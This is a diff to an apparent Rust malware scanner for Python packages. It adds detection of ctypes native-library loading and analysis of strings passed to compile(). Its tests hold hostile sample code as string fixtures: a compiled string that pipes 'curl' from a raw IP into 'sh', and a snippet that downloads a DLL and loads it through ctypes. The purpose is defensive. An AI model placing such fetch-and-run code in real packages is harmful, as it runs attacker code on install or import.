@@ -320,6 +320,17 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
         "importlib.util.spec_from_file_location"
         | "imp.load_source"
         | "importlib.machinery.SourceFileLoader" => (1, "location"),
+        // A native library runs its initialisers as it loads: a downloaded DLL loaded
+        // through ctypes is a dropped program started inside this process.
+        "ctypes.CDLL"
+        | "ctypes.WinDLL"
+        | "ctypes.PyDLL"
+        | "ctypes.OleDLL"
+        | "ctypes.cdll.LoadLibrary"
+        | "ctypes.windll.LoadLibrary"
+        | "ctypes.pydll.LoadLibrary"
+        | "ctypes.windll.kernel32.LoadLibraryA"
+        | "ctypes.windll.kernel32.LoadLibraryW" => (0, "name"),
         _ => return None,
     };
     call.arguments
@@ -384,7 +395,13 @@ fn check_executed(
         return;
     }
     if let Some(text) = folded {
-        if qualname == "compile" || qualname == "eval" && text.len() < 40 && !text.contains('(') {
+        if qualname == "compile" {
+            // What is compiled is run next (`FunctionType(code, globals())()`, `exec(code)`):
+            // its text is analysed like a file, with no weight of its own for the compile.
+            checker.push_layer(text, range, format!("a string passed to {qualname}"));
+            return;
+        }
+        if qualname == "eval" && text.len() < 40 && !text.contains('(') {
             // `eval("exec")` fetches a builtin by name: a classic obfuscator opening move.
             let looks_like_name = text
                 .chars()
@@ -608,6 +625,24 @@ mod tests {
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
         let code = "__import__('builtins').exec(__import__('base64').b64decode(p))\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn compiled_constant_code_is_analysed_as_a_layer() {
+        let code = "import types\nc = compile(\"import os; os.system('curl -s http://203.0.113.9/x | sh')\", '<x>', 'exec')\ntypes.FunctionType(c, globals())()\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let probe = "try:\n    compile('async def f(): pass', '<probe>', 'exec')\nexcept SyntaxError:\n    pass\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", probe, "WH110"), 0.0);
+        assert_eq!(max_severity("p/pkg/__init__.py", probe, "WH120"), 0.0);
+    }
+
+    #[test]
+    fn a_downloaded_native_library_loaded_through_ctypes_is_a_started_download() {
+        let code = "import ctypes, requests\np = '/tmp/x.dll'\nopen(p, 'wb').write(requests.get('https://example.invalid/x.dll').content)\nctypes.CDLL(p)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.8);
+        let shipped =
+            "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", shipped, "WH110"), 0.0);
     }
 
     #[test]
